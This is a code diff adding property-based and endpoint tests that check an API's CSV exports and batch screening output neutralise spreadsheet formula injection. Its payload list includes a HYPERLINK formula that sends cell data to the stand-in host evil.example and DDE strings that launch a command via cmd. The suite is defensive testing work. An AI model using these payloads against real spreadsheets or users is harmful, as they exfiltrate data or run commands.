@@ -1,12 +1,20 @@
 // Hostile input: every body-taking endpoint of the API fuzzed with random JSON
 // (fast-check) never answers 5xx; oversized, deeply nested and traversal attempts are
-// refused with a clear 4xx; injection strings in names are stored and found as text.
+// refused with a clear 4xx; injection strings in names are stored and found as text;
+// CSV exports neutralise cells a spreadsheet would run as formulas.
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import fc from 'fast-check';
 import type { FastifyInstance } from 'fastify';
 import { memoryStore, server, userWithToken, auth, postAs } from '../helpers.js';
 import type { Store } from '../../src/store/store.js';
 import { verifyAudit } from '../../src/store/audit.js';
+import { parse } from 'csv-parse/sync';
+import { csvRow } from '../../src/exchange/csv.js';
+
+/** What a spreadsheet would take as the start of a formula (OWASP CSV injection), full-width forms included. */
+const FORMULA = /^\s*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]|^[\t\r\n]/;
+const FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1', '  =1+1', '\uFF1D1+1', 'Juan "El =Chapo", Jr.'];
+const cells = (csv: string): string[][] => parse(csv.replace(/^\uFEFF/, ''), { relax_column_count: true }) as string[][];
 
 describe('hostile input', () => {
   let store: Store;
@@ -81,5 +89,39 @@ describe('hostile input', () => {
     const [n] = await store.db.query<{ n: number }>("SELECT count(*)::int AS n FROM statements WHERE entity_id LIKE 'inj-%'");
     expect(n!.n).toBe(hostile.length);
     expect((await verifyAudit(store.db)).ok).toBe(true);
+  });
+
+  it('neutralises every cell that could run as a formula, for any text, and keeps the text', () => {
+    fc.assert(fc.property(fc.oneof(fc.string(), fc.constantFrom(...FORMULAS), fc.tuple(fc.constantFrom('=', '+', '-', '@', '\t', '\r', ' =', '\uFF0B'), fc.string()).map(([a, b]) => a + b)), (text) => {
+      const [[cell]] = cells(csvRow([text, 'next'])) as [[string]];
+      expect(FORMULA.test(cell)).toBe(false);
+      expect(cell).toBe(FORMULA.test(text) ? `'${text}` : text);
+    }), { seed: 8, numRuns: 2000 });
+  });
+
+  it('exports names that are formulas as text, in the entity export and in screening results', async () => {
+    const r = await postAs(app, '/records', token, FORMULAS.map((name, i) => ({ sourceRecordId: `CSV-${i}`, marking: 'U//LES', entities: [{ id: `csv-${i}`, schema: 'Person', properties: { name: [name] } }] })));
+    expect(r.statusCode).toBe(200);
+    const exported = await app.inject({ url: `/export?format=csv&purpose=${encodeURIComponent('reliability test of CSV export')}`, headers: auth(token) });
+    expect(exported.statusCode).toBe(200);
+    expect(exported.headers['content-type']).toMatch(/^text\/csv/);
+    const rows = cells(exported.body);
+    expect(rows[0]).toEqual(['entity_id', 'schema', 'caption', 'prop', 'value', 'marking', 'source']);
+    for (const [i, name] of FORMULAS.entries()) {
+      const row = rows.find((x) => x[0] === `csv-${i}` && x[3] === 'name');
+      expect(row, name).toBeDefined();
+      // As stored (ingest trims surrounding white space), with an apostrophe in front if it could be a formula.
+      const stored = ((await app.inject({ url: `/entities/csv-${i}`, headers: auth(token) })).json() as { properties: { name: { value: string }[] } }).properties.name[0]!.value;
+      expect(row![4]).toBe(FORMULA.test(stored) ? `'${stored}` : stored);
+      if (/^[=+\-@\uFF1D]/.test(stored)) expect(row![4]).toBe(`'${stored}`);
+    }
+    for (const row of rows) for (const cell of row) expect(FORMULA.test(cell), `cell ${JSON.stringify(cell)}`).toBe(false);
+
+    const batch = await app.inject({ method: 'POST', url: '/screen/batch?format=csv', headers: { ...auth(token), 'content-type': 'application/json' }, payload: { csv: `name\n${FORMULAS.filter((f) => !/[\r\n]/.test(f)).map((f) => `"${f.replace(/"/g, '""')}"`).join('\n')}\nIsmael Zambada Garcia\n` } });
+    expect(batch.statusCode).toBe(200);
+    const screened = cells(batch.body);
+    expect(screened[0]).toEqual(['line', 'name', 'result', 'list', 'listed_name', 'score', 'explanation', 'reference']);
+    expect(screened.some((x) => x[2] === 'hit' && /ZAMBADA/i.test(x[4]!))).toBe(true);
+    for (const row of screened) for (const cell of row) expect(FORMULA.test(cell), `cell ${JSON.stringify(cell)}`).toBe(false);
   });
 });
